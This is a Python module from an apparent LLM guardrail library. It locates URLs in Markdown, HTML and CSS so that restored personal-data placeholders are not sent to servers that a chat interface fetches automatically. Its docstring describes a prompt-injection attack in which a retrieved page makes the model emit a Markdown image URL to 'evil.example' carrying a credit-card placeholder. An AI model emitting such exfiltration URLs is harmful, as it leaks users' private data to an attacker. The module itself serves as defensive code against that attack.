"""Where a placeholder sits: inside a URL fetched without a click, inside a link, or neither.

Restoring a value into a URL sends it to that URL's server. A prompt injection hidden in a
retrieved page can ask the model for ``![](https://evil.example/p.png?d=<CREDIT_CARD_1>)``:
the placeholders are predictable, and a chat UI fetches a Markdown image as soon as it shows the
answer (no click). :class:`~guardwire.guards.pii.PIIRestorer` therefore keeps placeholders that
sit in such a URL by default (``in_fetched_urls="keep"``; in tool-call arguments every URL
counts, since a tool may fetch it at once) and can do the same for links (``in_links="keep"``:
for UIs that unfurl link previews, which is also a fetch without a click).

What counts (the URL of each construct runs from its start up to a character a URL of that
construct cannot hold; the grammar follows CommonMark where it matters, and errs towards
"fetched" where it cannot tell):

- fetched (on display): the destination of a Markdown image ``![alt](…)`` (an alt text with
  line breaks or nested brackets, a destination after a line break, in ``<…>`` with spaces,
  with ``\\)`` escapes or balanced parentheses), and of every ``](`` that no link or image
  opening explains (an alt text over 1,000 characters, deeper nesting); a Markdown reference
  definition ``[id]: …`` (it may serve an image: ``![alt][id]``; also inside block quotes and
  list items, its label or destination on the next line); in an HTML tag other than
  ``<a>``/``<area>``, the value of ``src``, ``srcset``, ``data-src``, ``lowsrc``, ``poster``,
  ``data``, ``background`` or ``href`` (``<link>``, SVG ``<image>``), also after ``/``
  (``<img/src=…>``) and unquoted around a placeholder; CSS ``url(…)`` and ``@import``;
- link: the destination of a Markdown link ``[text](…)``; ``<a href>``/``<area href>``; an
  autolink ``<https://…>``; a bare URL ``scheme://…`` or ``mailto:``/``tel:``/``sms:`` running
  up to the placeholder without a space.

Placeholders are part of the raw text (``…?a=<EMAIL_ADDRESS_1>&b=<PERSON_1>``,
``![[PERSON_1]](…)``, ``<img alt="<PERSON_1>" src=…>``), so the URL character classes accept
``<…>`` tokens. The URLs of a text are found in one forward pass, once per text that holds a
placeholder (:class:`UrlIndex`). A stream keeps the last :data:`WINDOW` characters it passed
on, and for a construct still open where it cuts them (a URL or a tag longer than the window)
a short *head* that reopens it (:func:`carry`): ``![](``, ``<img src="``…, so that a
placeholder after a 5,000-character URL is still seen inside it.
"""

from __future__ import annotations

import bisect
from typing import Any, Literal

import regex

UrlKind = Literal["fetched", "link"]

WINDOW = 512
"""How many characters of what a stream passed on are kept as context for URLs (at least:
:func:`carry` keeps a ``[`` still open and a head for whatever else is open)."""

_LINE = r"\n(?![ \t]*\n)"  # a line break inside a paragraph (a blank line ends a link)
_UNIT = rf"(?:[^\[\]\\\n]++|\\.|{_LINE})"  # (runs: the bounds count runs, not characters)
_ALT = rf"(?:{_UNIT}|\[{_UNIT}{{0,1000}}\]){{0,1000}}"  # link text: one level of nesting
_ANGLE = r"<(?:[^\n\\<>]++|\\.|<[^\n<>]{0,60}>)*+>?"  # <…> destination (spaces allowed)


def _parens(depth: int) -> str:
    """Balanced parentheses in a destination; deeper than ``depth``, "(" is a URL character."""
    if depth == 0:
        return r"\((?:[^\s)\\]++|\\.|\\\Z)*+\)?"
    return rf"\((?:[^\s()\\]++|\\.|\\\Z|{_parens(depth - 1)})*+\)?"


_DEST = rf"[ \t]*(?:\n[ \t]*)?(?P<u>{_ANGLE}|(?:[^\s()\\]++|\\.|\\\Z|{_parens(3)})*+)"
_REF_LABEL = rf"(?:[^\[\]\\\n]|\\.|{_LINE}){{1,999}}"
_CONTAINER = r"(?:[ \t]{0,3}(?:>|[-+*]|[0-9]{1,9}[.)])){0,8}"  # block quotes, list items
_PATTERNS: tuple[tuple[str, UrlKind, tuple[str, ...], Any, str], ...] = (
    # (name, kind, literals one of which the lower-cased text must hold, pattern with group
    # "u", the head that reopens it in a stream)
    ("image", "fetched", ("![",), regex.compile(rf"!\[{_ALT}(?P<c>\]\(){_DEST}"), "![]("),
    ("link", "link", ("](",), regex.compile(rf"\[{_ALT}(?P<c>\]\(){_DEST}"), "[]("),
    ("ref", "fetched", ("]:",), regex.compile(
        rf"(?m:^{_CONTAINER}[ \t]*\[{_REF_LABEL}\]:[ \t]*(?:\n[ \t]*)?(?P<u>{_ANGLE}|\S*))"),
     "\n[x]:"),
    ("css", "fetched", ("url(",), regex.compile(r"(?i:\burl)\(\s*[\"']?(?P<u>[^)\"'\s]*)"),
     "url("),
    ("import", "fetched", ("@import",), regex.compile(
        r"(?i:@import)\s*(?:(?i:url)\(\s*)?[\"']?(?P<u>[^\"')\s;]*)"), "@importurl("),
    ("autolink", "link", ("<",), regex.compile(
        r"<(?P<u>[A-Za-z][A-Za-z0-9+.-]{1,20}:[^\s>]*)"), "<xx:"),
    ("bare", "link", ("://", ":\\/\\/"), regex.compile(  # also "https:\/\/…" in raw JSON
        r"(?P<u>\b[A-Za-z][A-Za-z0-9+.-]{1,20}:(?:\\?/){2}[^\s\"'(){}]*)"), "xx://"),
    ("scheme", "link", ("mailto:", "tel:", "sms:"),
     regex.compile(r"(?P<u>\b(?i:mailto|tel|sms):[^\s\"']*)"), "mailto:"),
)
# a placeholder inside a tag ("<img src=https://x/<PERSON_1>>"): its ">" goes away when it is
# restored; a tag such as <p> or <h1> ends the tag before it, as in a browser
_PLACEHOLDER_TOKEN = r"<[ ]?[A-Za-z][\w\\ -]{0,60}?(?:[_ -]|\\_)[0-9]{1,6}[ ]?>"
# a tag's attributes as a browser reads them: a name (anything up to a space, "/", ">" or
# "="; "<" included: "<img alt=x <a src=…>" is one <img>), then maybe "=" and a value, quoted
# (a quote left open, a stream's tail, runs to the end) or not (up to a space or ">": a quote
# in it opens nothing)
_NAME = rf"(?:{_PLACEHOLDER_TOKEN}|[^\s/>])(?:{_PLACEHOLDER_TOKEN}|[^\s/>=])*+"
_VALUE = rf"""(?P<v>"[^"]*+"?|'[^']*+'?|(?:{_PLACEHOLDER_TOKEN}|[^\s>])*+)"""
_ATTR_TOKEN: Any = regex.compile(rf"\s++|/|{_NAME}(?:\s*+=\s*+{_VALUE})?")
_TAG: Any = regex.compile(
    rf"<(?P<name>[A-Za-z][\w:-]*)(?P<attrs>(?:\s++|/|{_NAME}(?:\s*+=\s*+{_VALUE})?)*+)")
_ATTR: Any = regex.compile(
    r"""[\s"'/](?P<a>(?i:src|srcset|data-src|lowsrc|poster|data|background|href|xlink:href))"""
    # an unquoted value runs to a space or ">" (quotes and "<" included, as in a browser)
    rf"""\s*=\s*(?:"(?P<u>[^"]*)|'(?P<u>[^']*)|(?P<u>(?:{_PLACEHOLDER_TOKEN}|[^\s>])*+))""")


class UrlIndex:
    """The URLs of one text, by kind: ``kind(pos)`` says which URL ``text[pos]`` is in."""

    def __init__(self, text: str, *, links: bool = True) -> None:
        """``links=False``: only fetched URLs are looked for (a link then reads as none)."""
        spans: dict[UrlKind, list[tuple[int, int]]] = {"fetched": [], "link": []}
        found, explained = _matches(text, links)
        for _, kind, match in found:
            if links or kind == "fetched":
                spans[kind].append(match.span("u"))
        spans["fetched"] += _targets(text, explained)
        for tag in _tags(text):
            tag_kind = _tag_kind(tag)
            for attr in _ATTR.finditer(text, tag.start("attrs"), tag.end("attrs")):
                if tag_kind == "fetched" or attr["a"].lower() == "href":
                    spans[tag_kind].append(attr.span("u"))
        order: tuple[UrlKind, ...] = ("fetched", "link") if links else ("fetched",)
        self._spans = [(kind, _union(spans[kind])) for kind in order]

    def kind(self, pos: int) -> UrlKind | None:
        for kind, (starts, ends) in self._spans:
            i = bisect.bisect_right(starts, pos) - 1
            if i >= 0 and pos < ends[i]:
                return kind
        return None


def _matches(text: str, links: bool) -> tuple[list[tuple[str, UrlKind, Any]], set[int]]:
    """Every construct's match, ``(name, kind, match)`` (links only with ``links``, but
    Markdown links always: they explain their ``](``), and where the ``](`` of the images
    and links are."""
    low = text.lower()
    found: list[tuple[str, UrlKind, Any]] = []
    explained: set[int] = set()
    for name, kind, literals, pattern, _ in _PATTERNS:
        if (kind == "link" and not links and name != "link") or not any(
                lit in low for lit in literals):
            continue
        for m in pattern.finditer(text):
            if name in ("image", "link"):
                explained.add(m.start("c"))
            found.append((name, kind, m))
    return found, explained


_BLANKS: Any = regex.compile(r"[ \t]*")


def _targets(text: str, explained: set[int]) -> list[tuple[int, int]]:
    """What follows a ``](`` that no image or link explains (its opening is more than 1,000
    characters back, nested deeper, or cut off; or it is none): the rest of its line, or
    the next line when the rest is blank. Read as fetched: it may be an image's."""
    spans: list[tuple[int, int]] = []
    i = text.find("](")
    while i >= 0:
        if i not in explained:
            start = i + 2
            end = _line_end(text, start)
            if _BLANKS.match(text, start, end).end() == end and end < len(text):
                end = _line_end(text, end + 1)
            spans.append((start, end))
        i = text.find("](", i + 1)
    return spans


def _line_end(text: str, pos: int) -> int:
    end = text.find("\n", pos)
    return len(text) if end < 0 else end


_BRACKETS: Any = regex.compile(r"[\[\]]|\n[ \t]*\n")


def _bracket_cut(text: str, cut: int) -> int:
    """``cut``, moved back before a ``[`` that is still open there (an alt text, a link text
    or a reference label: at most 1,000 characters), to the start of its line if that is
    near (a reference definition needs it)."""
    opened: list[int] = []
    for m in _BRACKETS.finditer(text, max(0, cut - 1000), cut):
        if m.group() == "[":
            opened.append(m.start())
        elif m.group() == "]":
            if opened:
                opened.pop()
        else:
            opened.clear()
    if not opened:
        return cut
    line = text.rfind("\n", max(0, opened[0] - 128), opened[0])
    return line if line >= 0 else max(0, opened[0] - 1)


def _tags(text: str) -> list[Any]:
    if "=" not in text or "<" not in text:
        return []
    # a tag without "=" holds no URL (a placeholder such as <PERSON_1>)
    return [t for t in _TAG.finditer(text) if "=" in t["attrs"]]


def _tag_kind(tag: Any) -> UrlKind:
    return "link" if tag["name"].lower() in ("a", "area") else "fetched"


def carry(text: str, cut: int, *, links: bool = True) -> tuple[int, str]:
    """Where to cut ``text`` (at most ``cut``) and the head to put before ``text[cut:]`` so
    that every construct still open at the end of ``text`` reads the same way afterwards.

    A construct that started before the cut and runs to the end of the text (a long URL, a
    tag with long attributes) would otherwise lose its opening: its placeholders would be
    restored. The head reopens it (``![](``, ``<img x="``, ``<img src="``…), with as many
    ``(`` as the destination has open.
    """
    n = len(text)
    tag_head = ""
    for _ in range(4):  # the cuts only move back
        at, tag_head = _tag_carry(text, _bracket_cut(text, cut))
        stable, cut = at == cut, at
        if stable:
            break
    found, explained = _matches(text, links)
    heads = ["](" for start, end in _targets(text, explained) if end == n and start < cut]
    for name, kind, m in found:
        if m.end() != n or m.start() >= cut or not (links or kind == "fetched"):
            continue
        head = next(h for p, _, _, _, h in _PATTERNS if p == name)
        u_start = m.start("u")
        if u_start < cut and m["u"].startswith("<"):
            head += "<"
        elif u_start < cut and name in ("image", "link"):
            head += "(" * min(32, _open_parens(text, u_start, cut))
        heads.append(head)
    # no head may end another's URL: a reference definition's line start first, a tag inside
    # a quote next (nothing after it holds a quote), else the tag last (nothing after it)
    heads.sort(key=lambda h: not h.startswith("\n"))
    if any(q in tag_head for q in "\"'"):
        heads.insert(1 if heads[:1] and heads[0].startswith("\n") else 0, tag_head)
    elif tag_head:
        heads.append(tag_head)
    return cut, "".join(heads)


def _open_parens(text: str, start: int, end: int) -> int:
    depth = 0
    i = start
    while i < end:
        c = text[i]
        if c == "\\":
            i += 1
        elif c == "(":
            depth += 1
        elif c == ")":
            depth = max(0, depth - 1)
        i += 1
    return depth


def _tag_carry(text: str, cut: int) -> tuple[int, str]:
    """The cut and the head for a tag still open at the end of ``text``."""
    tag = None
    for match in _TAG.finditer(text):  # the last one; an open tag may get its "=" later
        tag = match
    if tag is None or tag.end() != len(text) or tag.start() >= cut:
        return cut, ""
    attrs = tag.start("attrs")
    if cut <= attrs:  # inside the name: a long one is not "a" or "area" (a link)
        return (cut, "\\<x-") if cut - tag.start() > 8 else (tag.start(), "")
    prefix = ""
    value_quote = -1
    for a in _ATTR.finditer(text, attrs, len(text)):
        if a.start() < cut < a.end():
            if cut <= a.start("u"):
                cut = a.start()  # keep the attribute's name whole
            else:
                q = a.start("u") - 1
                value_quote = q if text[q] in "\"'" and q > a.start("a") else -1
                prefix = f"/{a['a']}=" + (text[q] if value_quote >= 0 else "")
            break
    else:
        spot = max((text.rfind(c, max(attrs, cut - 32), cut) for c in " \t\n\"'/"),
                   default=-1)
        cut = spot if spot >= attrs else cut
    quote = ""
    for q in _ATTR_TOKEN.finditer(text, attrs, len(text)):
        if q.start() >= cut:
            break
        value = q["v"] or ""
        if value[:1] not in ("'", '"') or q.start("v") >= cut:
            continue
        closed = len(value) > 1 and value[-1] == value[0]
        if cut < q.end() or not closed:  # the cut is inside this quoted value
            if q.start("v") != value_quote:
                quote = f"/x={value[0]}"
            break
    # "/" separates attributes without a space (a space would end another head's URL), and
    # "\<" reads as part of a URL in every construct (an escaped "<" in a <…> destination)
    return cut, f"\\<{tag['name']}{quote}{prefix or ('' if quote else '/')}"


def _union(spans: list[tuple[int, int]]) -> tuple[list[int], list[int]]:
    """Sorted, disjoint start and end lists covering ``spans`` (empty spans dropped)."""
    starts: list[int] = []
    ends: list[int] = []
    for s, e in sorted(spans):
        if e <= s:
            continue
        if ends and s <= ends[-1]:
            ends[-1] = max(ends[-1], e)
        else:
            starts.append(s)
            ends.append(e)
    return starts, ends
